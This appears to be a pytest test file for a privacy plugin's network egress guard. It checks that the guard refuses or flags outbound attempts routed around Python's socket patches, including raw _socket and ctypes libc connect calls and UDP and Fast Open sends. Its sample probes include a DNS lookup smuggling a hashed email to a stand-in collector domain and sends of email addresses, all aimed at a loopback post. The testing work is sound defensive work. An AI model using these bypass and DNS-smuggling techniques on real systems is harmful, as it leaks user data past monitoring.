"""The egress guard sees what Python's socket patches cannot: the audit hook and the listings.

Every probe aims at a loopback post the guard is told is a foreign host
(``outside_post``): a guard that misses the attempt lets it reach a local
socket, never the network, and the test sees it arrive.
"""

from __future__ import annotations

import _socket
import ctypes
import hashlib
import socket
import sys
import threading
import time
import types
from collections.abc import Iterator
from contextlib import closing

import pytest

from outside_post import OutsidePost, no_lookup_escapes, outside_post
from pytest_stexcel_privacy.observe import child_reports
from pytest_stexcel_privacy.observe.audit import quietly
from pytest_stexcel_privacy.observe.egress import (
    EgressGuard,
    EgressRefused,
    blind_spots,
    guarded,
)


@pytest.fixture
def post() -> Iterator[OutsidePost]:
    with outside_post() as post:
        yield post


def kinds(guard: EgressGuard) -> list[tuple[str, str, int | None]]:
    return [(e.kind, e.host, e.port) for e in guard.events]


def test_the_c_socket_type_used_directly_is_refused(post: OutsidePost) -> None:
    sock = _socket.socket()
    with guarded(post.endpoints) as guard, closing(sock), pytest.raises(EgressRefused):
        sock.connect(post.tcp_address)
    assert kinds(guard) == [("connect", *post.tcp_address)]
    assert post.arrivals() == []


def test_connect_reached_around_the_patch_is_refused(post: OutsidePost) -> None:
    with (
        guarded(post.endpoints) as guard,
        socket.socket() as sock,
        pytest.raises(EgressRefused),
    ):
        super(socket.socket, sock).connect(post.tcp_address)
    assert kinds(guard) == [("connect", *post.tcp_address)]
    assert post.arrivals() == []


def test_a_connect_method_saved_before_the_guard_started_is_refused(post: OutsidePost) -> None:
    connect = socket.socket.connect  # what a module kept at import time
    with (
        guarded(post.endpoints) as guard,
        socket.socket() as sock,
        pytest.raises(EgressRefused),
    ):
        connect(sock, post.tcp_address)
    assert kinds(guard) == [("connect", *post.tcp_address)]
    assert post.arrivals() == []


def test_udp_sendto_is_refused(post: OutsidePost) -> None:
    with (
        guarded(post.endpoints) as guard,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
        pytest.raises(EgressRefused),
    ):
        sock.sendto(b"ada@example.com", post.udp_address)
    assert kinds(guard) == [("send", *post.udp_address)]
    assert post.arrivals() == []


def test_udp_sendmsg_is_refused(post: OutsidePost) -> None:
    with (
        guarded(post.endpoints) as guard,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
        pytest.raises(EgressRefused),
    ):
        sock.sendmsg([b"ada@example.com"], [], 0, post.udp_address)
    assert kinds(guard) == [("send", *post.udp_address)]
    assert post.arrivals() == []


@pytest.mark.skipif(not hasattr(socket, "MSG_FASTOPEN"), reason="TCP Fast Open is Linux's")
def test_tcp_fast_open_is_refused(post: OutsidePost) -> None:
    with (
        guarded(post.endpoints) as guard,
        socket.socket() as sock,
        pytest.raises(EgressRefused),
    ):
        sock.sendto(b"GET /?email=ada", socket.MSG_FASTOPEN, post.tcp_address)
    assert kinds(guard) == [("send", *post.tcp_address)]
    assert post.arrivals() == []


def test_a_lookup_of_a_name_carrying_data_is_refused_before_it_leaves() -> None:
    carried = hashlib.md5(b"ada.canary@example.com").hexdigest()
    name = f"{carried}.collect.example"
    with no_lookup_escapes(), guarded() as guard, pytest.raises(socket.gaierror) as caught:
        socket.gethostbyname(name)
    assert isinstance(caught.value, EgressRefused)
    assert kinds(guard) == [("dns", name, None)]


def test_reverse_lookups_and_gethostbyname_ex_are_refused() -> None:
    with no_lookup_escapes(), guarded() as guard:
        with pytest.raises(socket.gaierror):
            socket.gethostbyname_ex("tracker.example")
        with pytest.raises(socket.gaierror):
            socket.gethostbyaddr("192.0.2.1")
    assert [e.host for e in guard.events] == ["tracker.example", "192.0.2.1"]


def test_libc_connect_through_ctypes_is_refused(post: OutsidePost) -> None:
    address = socket.inet_aton(post.tcp_address[0])
    sockaddr = (
        socket.AF_INET.to_bytes(2, sys.byteorder)
        + post.tcp_address[1].to_bytes(2, "big")
        + address
        + bytes(8)
    )
    with (
        guarded(post.endpoints) as guard,
        socket.socket() as sock,
        pytest.raises(EgressRefused),
    ):
        ctypes.CDLL(None).connect(sock.fileno(), sockaddr, len(sockaddr))
    assert [(e.kind, e.detail) for e in guard.events] == [
        ("native", "connect looked up through ctypes")
    ]
    assert post.arrivals() == []


def test_unrelated_ctypes_calls_pass() -> None:
    with guarded() as guard:
        assert ctypes.CDLL(None).getpid() > 0
    assert guard.events == []


def blind_spots_while_held_by(name: str) -> list[str]:
    """The blind spots of a check that begins while a module ``name`` holds libc's sendto."""
    module = types.ModuleType(name)
    module.send = ctypes.CDLL(None).sendto  # type: ignore[attr-defined]
    sys.modules[name] = module
    try:
        with guarded() as guard:
            pass
    finally:
        del sys.modules[name]
    return blind_spots(guard.events)


def test_a_network_function_resolved_before_the_check_is_a_blind_spot() -> None:
    assert [s for s in blind_spots_while_held_by("resolved_early") if "resolved_early.send" in s]


def test_a_network_function_resolved_between_checks_is_a_blind_spot_of_the_next() -> None:
    """The look for held functions is skipped while nothing was resolved since it last
    found none; a function resolved after one check is still named by the next."""
    with guarded() as first:
        pass
    assert not blind_spots(first.events)
    spots = blind_spots_while_held_by("resolved_between_checks")
    assert [s for s in spots if "resolved_between_checks.send" in s]
    with guarded() as third:
        pass
    assert not blind_spots(third.events)


def test_the_look_for_held_functions_walks_again_whenever_one_could_be_held(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A walk of every module's globals is repeated after any symbol lookup or pointer
    read through ctypes, after a walk that found one, and when the audit hook was not
    counting; only two watched walks that found nothing, with nothing resolved since the
    first, are not."""
    from pytest_stexcel_privacy.observe import audit, native_calls

    assert audit.install()
    walks: list[list[str]] = []
    walk = native_calls.held_network_functions

    def counted_walk() -> list[str]:
        walks.append(found := walk())
        return found

    monkeypatch.setattr(native_calls, "held_network_functions", counted_walk)
    holder = types.ModuleType("module_resolving_later")
    monkeypatch.setitem(sys.modules, holder.__name__, holder)
    look = native_calls.HeldFunctionsLook()
    slot = ctypes.c_void_p(ctypes.cast(ctypes.CDLL(None).connect, ctypes.c_void_p).value)

    def held(watched: bool = True) -> tuple[list[str], int]:
        before = len(walks)
        with quietly():
            found = look.held(watched=watched)
        return found, len(walks) - before

    assert held() == ([], 1)
    assert held() == ([], 1)  # one walk finding nothing is not trusted alone
    assert held() == ([], 0)
    assert held(watched=False) == ([], 1)
    assert held() == ([], 1)  # an unwatched walk is not trusted to stand
    assert held() == ([], 1)
    assert held() == ([], 0)
    ctypes.CDLL(None).getpid  # noqa: B018 (any lookup: an alias shares connect's address)
    assert held() == ([], 1)
    assert held() == ([], 1)
    assert held() == ([], 0)
    holder.send = ctypes.CDLL(None).send  # type: ignore[attr-defined]
    assert held() == (["module_resolving_later.send"], 1)
    assert held() == (["module_resolving_later.send"], 1)  # what was held may be copied
    del holder.send  # type: ignore[attr-defined]
    assert held() == ([], 1)
    assert held() == ([], 1)
    assert held() == ([], 0)
    function_type = ctypes.CFUNCTYPE(ctypes.c_int)
    holder.read = function_type.from_address(ctypes.addressof(slot))  # type: ignore[attr-defined]
    assert held() == (["module_resolving_later.read"], 1)


def test_a_function_stored_just_after_a_walk_found_nothing_is_named_by_the_next(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The hook counts a lookup before the module stores its result: a walk in between,
    from another thread, finds nothing, and the next walk must still be made."""
    from pytest_stexcel_privacy.observe import native_calls

    answers = [[], ["module_storing_late.send"]]  # the store lands after the first walk
    monkeypatch.setattr(native_calls, "held_network_functions", lambda: answers.pop(0))
    look = native_calls.HeldFunctionsLook()
    native_calls.resolved_one()  # the lookup, counted as it begins
    assert look.held(watched=True) == []
    assert look.held(watched=True) == ["module_storing_late.send"]


def test_a_connection_opened_before_the_guard_started_is_listed(post: OutsidePost) -> None:
    with socket.create_connection(post.tcp_address), guarded(post.endpoints) as guard:
        pass
    assert kinds(guard) == [("open-before-start", *post.tcp_address)]


def test_a_connection_the_hook_never_saw_is_listed_at_the_verdict(post: OutsidePost) -> None:
    sock = _socket.socket()
    with guarded(post.endpoints) as guard, closing(sock):
        with quietly():  # as native code calling libc itself would
            sock.connect(post.tcp_address)
        guard.settle()
    assert kinds(guard) == [("open-at-verdict", *post.tcp_address)]


def test_a_thread_connecting_late_is_waited_for(post: OutsidePost) -> None:
    address = post.tcp_address

    def late() -> None:
        time.sleep(0.3)
        with socket.socket() as sock, pytest.raises(EgressRefused):
            sock.connect(address)

    with guarded(post.endpoints) as guard:
        threading.Thread(target=late).start()
        guard.settle()
        assert kinds(guard) == [("connect", *post.tcp_address)]
    assert post.arrivals() == []


def test_a_thread_still_running_at_the_verdict_is_a_blind_spot() -> None:
    stop = threading.Event()
    with guarded() as guard:
        threading.Thread(target=stop.wait, name="flusher", daemon=True).start()
        guard.settle(grace=0.1)
        stop.set()
    assert blind_spots(guard.events) == [
        "thread 'flusher' was still running (the module started it during the check; "
        "what it sends after the verdict cannot be judged)"
    ]


def test_threads_of_servers_running_before_the_check_are_not_waited_for() -> None:
    stop = threading.Event()

    def server() -> None:  # a local sink that starts a handler per request
        threading.Thread(target=stop.wait, daemon=True).start()

    before = threading.Thread(target=lambda: (started.wait(), server()), daemon=True)
    started = threading.Event()
    before.start()
    with guarded() as guard:
        started.set()
        before.join()
        guard.settle(grace=0.1)
        stop.set()
    assert guard.events == []


def test_loopback_connections_are_noted_as_seen() -> None:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        address = server.getsockname()
        sock = _socket.socket()
        with guarded() as guard, closing(sock):
            sock.connect(address)
    assert guard.local_connections == [address]
    assert guard.events == []


@pytest.mark.skipif(not hasattr(socket, "AF_PACKET"), reason="packet sockets are Linux's")
def test_a_packet_socket_bound_to_a_real_interface_is_refused() -> None:
    interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    except PermissionError:
        pytest.skip("packet sockets need CAP_NET_RAW")
    if not interfaces:
        pytest.skip("no network interface but loopback")
    with guarded() as guard, closing(sock):
        sock.bind(("lo", 0))  # loopback frames stay here
        with pytest.raises(EgressRefused):
            sock.bind((interfaces[0], 0))  # binding sends nothing; sending would
    assert kinds(guard) == [("bind", f"interface {interfaces[0]}", None)]


def test_a_child_report_that_cannot_be_read_is_a_blind_spot() -> None:
    with guarded() as guard:
        (child_reports.directory() / "4194304.jsonl").write_text('not json\n{"v": 0}\n')
        guard.settle(grace=0.1)
    (child_reports.directory() / "4194304.jsonl").unlink()
    spots = blind_spots(guard.events)
    assert len(spots) == 2
    assert spots[0].startswith("a child's report 4194304.jsonl: not JSON")
    assert spots[1].startswith("a child's report 4194304.jsonl: not a version-1 report")


def test_network_functions_a_module_resolved_through_ctypes_are_named(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A libc network function a module resolved before the check began (held as a
    function pointer, cached on its CDLL, or on a loader's library) is named, so the
    check can say calls through it are invisible; an unrelated one is not."""
    from pytest_stexcel_privacy.observe.native_calls import held_network_functions

    libc = ctypes.CDLL(None)
    holder = types.ModuleType("module_holding_libc")
    holder.raw_connect = ctypes.CDLL(None).connect  # type: ignore[attr-defined]
    holder.libc = libc  # type: ignore[attr-defined]
    holder.loader = ctypes.LibraryLoader(ctypes.CDLL)  # type: ignore[attr-defined]
    holder.loader.libc = ctypes.CDLL(None)  # type: ignore[attr-defined]
    holder.getpid = ctypes.CDLL(None).getpid  # type: ignore[attr-defined]
    libc.sendto  # noqa: B018 (cached on the library once looked up)
    holder.loader.libc.connect  # type: ignore[attr-defined]  # noqa: B018
    monkeypatch.setitem(sys.modules, holder.__name__, holder)
    with quietly():
        held = set(held_network_functions())
    mine = {name for name in held if name.startswith("module_holding_libc.")}
    assert mine == {
        "module_holding_libc.raw_connect",
        "module_holding_libc.libc.sendto",
        "module_holding_libc.loader.libc.connect",
    }
